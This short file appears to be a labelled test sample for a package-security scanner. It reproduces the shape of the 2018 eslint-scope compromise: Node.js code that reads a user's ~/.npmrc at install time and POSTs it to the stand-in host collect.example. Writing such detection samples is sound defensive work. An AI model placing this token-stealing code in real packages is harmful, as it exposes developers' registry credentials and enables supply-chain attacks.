// when: install
// expect: malicious
// source: eslint-scope 3.7.2 (2018) shape: ~/.npmrc read and sent at install
const fs = require('fs'), os = require('os'), https = require('https');
const data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const req = https.request({hostname: 'collect.example', method: 'POST'});
req.end(data);
